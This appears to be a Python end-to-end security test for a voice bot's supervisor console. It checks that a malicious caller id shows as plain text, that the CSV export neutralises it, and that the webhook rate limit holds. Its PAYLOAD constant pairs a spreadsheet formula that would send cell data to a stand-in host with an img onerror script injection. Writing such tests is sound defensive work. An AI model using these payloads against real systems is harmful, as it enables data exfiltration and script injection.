"""One real Twilio-protocol call carries attacker text all the way into the real console.

The caller id (Twilio's `From`, handed back by the webhook's TwiML as the stream's `caller`)
is an `<img onerror>` payload that also starts a spreadsheet formula. The caller asks for a
person, so a supervisor sees the call in Chromium (as text, no script runs), then keys 1 for
a callback, whose CSV export cell is inert. Meanwhile the webhook's per-address rate limit
refuses a flood from the caller's address without harming the call in progress.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import aiohttp
import pytest

from bot.caller.twilio_client import TwilioCaller
from bot.caller.webhook import http_base, stream_parameters
from tests.conftest import ServerProcess
from tests.e2e.conftest import start_e2e_server
from tests.e2e.test_escalation_calls import PASSWORD, add_agent, hear, queue_for_agent

from .console_browser import assert_nothing_ran, chromium, export_csv, log_in

pytestmark = pytest.mark.slow

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"x")<img src=x onerror="window.__xss=1">'
RATE = 3  # webhook POSTs a minute from one address


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    server = start_e2e_server(tmp_path_factory.mktemp("attack-call"),
                              {"VOICEBOT_SERVER__RATE_LIMIT_PER_MIN": str(RATE)})
    yield server
    server.stop()


async def test_attacker_caller_id_is_text_in_the_console_and_inert_in_the_export(server) -> None:
    await add_agent(Path(server.env["VOICEBOT_PATHS__DATA_DIR"]), "sam", "supervisor")
    async with chromium() as browser:
        page, dialogs = await log_in(browser, server.base_url, "sam", PASSWORD)
        await page.wait_for_selector("#live.on")

        async with TwilioCaller(server.ws_url, caller=PAYLOAD) as call:  # webhook POST 1 of RATE
            await queue_for_agent(call)
            sid = call.log.call_sid
            entry = await page.wait_for_selector(f'.entry[data-call-id="{sid}"]', timeout=20000)
            assert await entry.eval_on_selector(".caller", "n => n.textContent") == PAYLOAD

            refused = await flood_the_webhook(server.ws_url)
            assert refused.status == 429 and refused.headers["Retry-After"] == "60"
            assert await hear(call, 2.0) >= 2.0, "the call in progress lost its hold audio"

            await call.press("1")  # a callback task, numbered with the caller id
            assert await call.wait_closed(20), "the bot did not end the call after booking the callback"
        await page.click(".tab[data-tab=callbacks]")
        row = await page.wait_for_selector("#callbacks-table tbody tr")  # the one callback
        cells = await row.eval_on_selector_all("td", "cells => cells.map(c => c.textContent)")
        assert cells[2] == PAYLOAD, cells
        await assert_nothing_ran(page, dialogs)
        rows = [r for r in await export_csv(page, "callbacks") if r["call_id"] == sid]
    assert [r["number"] for r in rows] == ["'" + PAYLOAD], rows
    refusals = re.findall(r"/twilio/voice from 127\.0\.0\.1 refused", server.log())
    assert len(refusals) == 1, server.log()[-3000:]


async def flood_the_webhook(ws_url: str) -> aiohttp.ClientResponse:
    """Webhook POSTs from the caller's address until one is refused; that refusal."""
    for i in range(RATE - 1):
        await stream_parameters(ws_url, f"CAflood{i}", "+15550100999")
    async with aiohttp.ClientSession() as http:
        resp = await http.post(http_base(ws_url) + "/twilio/voice", data={"CallSid": "CAflood", "From": "+1"})
        resp.release()
        return resp
